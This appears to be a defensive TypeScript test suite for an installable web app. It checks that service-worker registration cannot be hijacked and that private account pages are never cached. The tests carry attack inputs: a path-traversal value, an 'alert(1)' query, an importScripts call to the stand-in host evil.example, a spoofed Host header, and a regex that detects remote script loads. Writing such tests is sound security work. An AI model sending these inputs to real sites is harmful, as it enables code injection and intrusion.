import { by, get } from "./support/attack";
import { runAttacks } from "./support/run-attacks";
import { send } from "./support/send";
import type { World } from "./support/world";

const WORKER = { "service-worker": "script", "sec-fetch-dest": "serviceworker" };
const NO_SCOPE = { headers: { "service-worker-allowed": null } };

const worker = by("stranger", {
  "registers the worker": [
    get("/sw/sw.js", WORKER),
    200,
    {
      headers: {
        "content-type": /^application\/javascript/,
        "cache-control": /no-cache|max-age=0/,
        "service-worker-allowed": "/",
        "x-content-type-options": "nosniff",
      },
      hides: /importScripts\(["']https?:|eval\(/,
    },
  ],
  "registers another worker": [get("/sw/other.js", WORKER), 404, NO_SCOPE],
  "registers the worker's map": [get("/sw/sw.js.map", WORKER), 404, NO_SCOPE],
  "registers a file of the server as a worker": [get("/sw/..%2f..%2fpackage.json", WORKER), [400, 404], NO_SCOPE],
  "registers a worker by a query": [get("/sw/sw.js?callback=alert(1)//", WORKER), 200, { hides: "alert(1)" }],
  "registers a stored picture as a worker": [
    ({ picture }) => get(`/storage/v1/object/public/${picture}`, WORKER),
    200,
    { headers: { "content-type": /^image\//, "x-content-type-options": "nosniff", "service-worker-allowed": null } },
  ],
  "registers suggestions as a worker": [
    get("/api/sugerencias?q=importScripts('https://evil.example')", WORKER),
    200,
    { headers: { "content-type": /^application\/json/, "service-worker-allowed": null } },
  ],
  "registers a contact as a worker": [
    get("/negocio/taqueria-la-guera/contacto.vcf", WORKER),
    200,
    { headers: { "content-type": /^text\/vcard/, "service-worker-allowed": null } },
  ],
  "registers rows of the data API as a worker": [
    get("/rest/v1/negocios?select=nombre&limit=1", WORKER),
    200,
    { headers: { "content-type": /^application\/json/, "content-security-policy": /sandbox/ } },
  ],
  "installs the app under another name": [
    get("/manifest.webmanifest", { host: "evil.example" }),
    200,
    { isDirect: true, hides: "evil.example", shows: '"scope":"/"' },
  ],
});

/** Pages that a worker or a browser would keep for the next person on the phone. */
const PRIVATE = [
  "/mi-negocio",
  "/cuenta",
  "/cuenta/eliminar",
  "/cuenta/contrasena",
  "/admin",
  "/checkout",
  "/registro?plan=free",
  "/reclamar/panaderia-migas-de-luna",
];
const NOT_KEPT = { headers: { "cache-control": /no-store/ } };
const AS_DATA = { rsc: "1" };

/** Next leads a request for a page's data to an address that its headers are part of. */
const dataOf = (path: string) => async (world: World) => {
  const asked = { title: "", as: "owner" as const, request: get(path, AS_DATA), expect: 307 };
  const { headers } = await send(asked.request, asked, world);
  return get(headers.location ?? path, AS_DATA);
};

const kept = [
  ...PRIVATE.flatMap((path) =>
    by("owner", {
      [`leaves ${path} to the next person`]: [get(path, { accept: "text/html" }), [200, 403], NOT_KEPT],
      [`leaves the data of ${path} to the next person`]: [dataOf(path), [200, 403], NOT_KEPT],
    }),
  ),
  ...["/", "/sin-conexion", "/favoritos", "/descargar"].flatMap((path) =>
    by("owner", {
      [`leaves itself in ${path}`]: [
        get(path, { accept: "text/html" }),
        200,
        { hides: "profesional@example.com", headers: { "set-cookie": null } },
      ],
    }),
  ),
  ...["/auth/v1/user", "/rest/v1/negocio_privado?select=email", "/rest/v1/ordenes?select=id"].flatMap((path) =>
    by("owner", { [`leaves ${path} to the next person`]: [get(path), 200, NOT_KEPT] }),
  ),
];

runAttacks("installed app", [...worker, ...kept]);
